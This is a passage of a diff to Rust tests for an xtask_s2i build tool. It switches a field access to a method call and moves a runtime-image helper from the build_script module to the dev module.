         ws.args(|a| a.packages = names.iter().map(|s| s.to_string()).collect())
             .execute(&Buffer::new())
             .unwrap()
-            .plans
+            .plans()
             .iter()
             .map(|p| p.package().to_string())
             .collect()
@@ -1121,8 +1399,7 @@ fn no_configured_package_is_a_teaching_error_with_toml_to_paste() {
 #[test]
 fn the_build_script_helper_reads_the_example() {
     let manifest = support::example_dir().join("Cargo.toml");
-    let (image, files) =
-        xtask_s2i::build_script::runtime_image_of(&manifest).expect("the example is valid");
+    let (image, files) = xtask_s2i::dev::runtime_image_of(&manifest).expect("the example is valid");
     assert_eq!(image, "hello-world:0.1.0");
     let manifest = manifest.canonicalize().unwrap();
     assert!(files.contains(&manifest), "{files:?}");
